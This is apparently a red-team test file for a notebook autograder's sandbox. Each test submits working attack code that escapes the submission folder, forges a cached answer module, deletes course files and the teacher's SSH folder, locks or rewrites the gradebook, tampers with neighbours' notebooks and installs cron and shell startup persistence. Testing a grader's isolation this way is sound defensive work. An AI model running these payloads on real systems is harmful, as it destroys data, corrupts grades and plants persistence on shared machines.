"""Attacks: write."""

from tests.red_team.declared import attack


@attack(alone=True)
def write_at_exit(submission):
    """Files are written when the process ends, and when objects are destroyed.

    Success: the attack leaves a trace.
    """
    submission.first("""
        import atexit, os

        def leave(place="/tmp/red-team-was-here"):
            for path in (place, "/srv/course/red-team-was-here", "../../../red-team-was-here"):
                try:
                    os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
                except OSError:
                    pass

        class Late:
            def __del__(self):
                leave()

        kept = Late()
        atexit.register(leave)
        get_ipython().events.register("post_run_cell", lambda *a: leave())
    """)


@attack(alone=True)
def write_cache(submission):
    """A compiled file is placed where Python would load it instead of the solutions.

    Success: the attack leaves a trace.
    """
    submission.first("""
        import importlib.util, marshal, os, struct, sys
        source = "/srv/course/answers.py"
        try:
            about = os.stat(source)
            code = marshal.dumps(compile("TOTAL = 1", source, "exec"))
            head = importlib.util.MAGIC_NUMBER
            head += struct.pack("<III", 0, int(about.st_mtime), about.st_size)
            target = importlib.util.cache_from_source(source)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            open(target, "wb").write(head + code)
        except OSError as error:
            print(error)
    """)


@attack(alone=True)
def write_course(submission):
    """The solutions, the settings and the instructor's notebook are changed.

    Success: the attack leaves a trace.
    """
    submission.first("""
        import glob
        for pattern in ("../../../*.py", "/srv/course/*.py", "/srv/course/source/*/*",
                        "/srv/course/release/*/*", "/srv/exchange/*/*/*"):
            for path in glob.glob(pattern):
                try:
                    open(path, "a").write("# red-team-was-here\\n")
                except OSError as error:
                    print(error)
        try:
            open("/srv/course/random.py", "w").write("# red-team-was-here\\n")
        except OSError as error:
            print(error)
    """)


@attack(alone=True)
def write_delete_everything(submission):
    """All files of the course that can be deleted are deleted.

    Success: neighbors are not graded.
    """
    submission.first("""
        import shutil
        for place in ("../../../submitted", "../../../source", "/srv/course", "/srv/exchange",
                      "/home/teacher/.ssh"):
            shutil.rmtree(place, ignore_errors=True)
    """)


@attack(alone=True)
def write_gradebook_lock(submission):
    """The gradebook is locked by a transaction that never ends.

    Success: a neighbor is not graded.
    """
    submission.first("""
        import glob, sqlite3
        held = []
        for path in {*glob.glob("../../../*.db"), *glob.glob("/srv/course/*.db")}:
            base = sqlite3.connect(path, isolation_level=None)
            base.execute("BEGIN EXCLUSIVE")
            held.append(base)
    """)


@attack(alone=True)
def write_gradebook_of_others(submission):
    """The neighbors' grades and names, and the points of questions, are changed in the gradebook.

    Success: rows are changed, or a neighbor loses points.
    """
    submission.first("""
        import glob, sqlite3
        for path in {*glob.glob("../../../*.db"), *glob.glob("/srv/course/*.db")}:
            try:
                base = sqlite3.connect(path)
                base.execute("UPDATE grade SET manual_score = 0")
                base.execute("UPDATE grade_cells SET max_score = 1000")
                base.execute("UPDATE student SET first_name = 'red-team-was-here'")
                base.execute("CREATE TABLE red (team TEXT)")
                base.commit()
            except sqlite3.Error as error:
                print(error)
    """)


@attack(alone=True)
def write_library(submission):
    """The installed packages are changed for everyone.

    Success: the attack leaves a trace, or a neighbor's outputs change.
    """
    submission.first("""
        import os, sys, ctypes
        import numpy, IPython
        for module in (numpy, IPython, os):
            try:
                with open(module.__file__, "a") as file:
                    file.write("\\nprint('red-team-was-here')\\n")
            except OSError as error:
                print(error)
        libc = ctypes.CDLL(None)
        print(libc.mount(None, sys.prefix.encode(), None, 32 | 4096, None))
        print(libc.mount(b"tmpfs", sys.prefix.encode(), b"tmpfs", 0, None))
    """)


@attack(alone=True)
def write_neighbor(submission):
    """The neighbors' submitted and graded work is changed.

    Success: the attack leaves a trace, or a neighbor loses points.
    """
    submission.first("""
        import glob, os
        places = ["../../*/ps1/ps1.ipynb", "/srv/course/*/*/ps1/ps1.ipynb"]
        for pattern in places:
            for path in glob.glob(pattern):
                try:
                    os.chmod(path, 0o644)
                    open(path, "a").write("red-team-was-here")
                except OSError as error:
                    print(error)
    """)


@attack
def write_own_results(submission):
    """The running notebook overwrites its own results, with points in the outputs.

    Success: the attack earns points.
    """
    submission.first("""
        import glob, json, threading, time

        def cheat():
            while True:
                for path in glob.glob("*.ipynb") + glob.glob("../../*/ps1/*.ipynb"):
                    try:
                        notebook = json.load(open(path))
                        for cell in notebook["cells"]:
                            if cell.get("outputs"):
                                cell["outputs"] = []
                        json.dump(notebook, open(path, "w"))
                    except (OSError, ValueError):
                        pass
                time.sleep(0.05)

        threading.Thread(target=cheat).start()
    """)


@attack(alone=True)
def write_schedule(submission):
    """Jobs are scheduled for later, in cron tables and the shell's startup files.

    Success: the attack leaves a trace.
    """
    submission.first("""
        %%bash
        for place in /var/spool/cron/crontabs/root /var/spool/cron/crontabs/teacher \\
                     /etc/cron.d/red ~/.profile /home/teacher/.profile /etc/profile.d/red.sh
        do
            echo '* * * * * touch /tmp/red-team-was-here' >> $place
        done
        crontab -l | { cat; echo '* * * * * touch /tmp/red-team-was-here'; } | crontab -
        true
    """)


@attack(alone=True)
def write_shared_memory(submission):
    """Shared memory, semaphores and kernel keys, which outlive processes, are left behind.

    Success: any of them exists after grading.
    """
    submission.first("""
        import ctypes
        from multiprocessing import shared_memory
        libc = ctypes.CDLL(None)
        print(libc.shmget(0x5EED, 4096, 0o1666), libc.semget(0x5EED, 1, 0o1666),
              libc.msgget(0x5EED, 0o1666))
        libc.syscall(248, b"user", b"red-team-was-here", b"x", 1, -4)
        try:
            from multiprocessing import resource_tracker
            resource_tracker.register = lambda *a: None
            shared_memory.SharedMemory("red-team-was-here", create=True, size=4096)
        except OSError as error:
            print(error)
    """)


@attack(alone=True)
def write_startup(submission):
    """Files are created that Python and IPython run at every start.

    Success: the attack leaves a trace in the home, or in the next student's outputs.
    """
    submission.first("""
        import os, site, sys
        code = "import os\\nos.environ['red-team-was-here'] = '1'\\nprint('red-team-was-here')\\n"
        home = os.path.expanduser("~")
        for place in (home + "/.ipython/profile_default/startup/00.py",
                      "/home/teacher/.ipython/profile_default/startup/00.py",
                      site.getusersitepackages() + "/usercustomize.py",
                      site.getusersitepackages() + "/red.pth",
                      sys.prefix + "/lib/python3.11/site-packages/sitecustomize.py",
                      home + "/.bashrc", home + "/.jupyter/jupyter_config.py",
                      home + "/.config/matplotlib/matplotlibrc", home + "/.ssh/authorized_keys"):
            try:
                os.makedirs(os.path.dirname(place), exist_ok=True)
                open(place, "a").write(code)
            except OSError as error:
                print(error)
    """)


@attack(alone=True)
def write_temporary(submission):
    """Files are left in the folders for temporary files.

    Success: the attack leaves a trace, or the next student sees it.
    """
    submission.first("""
        import os, tempfile
        folders = {"/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", tempfile.gettempdir()}
        for folder in folders:
            try:
                open(folder + "/red-team-was-here", "w").write("x")
            except OSError as error:
                print(error)
    """)
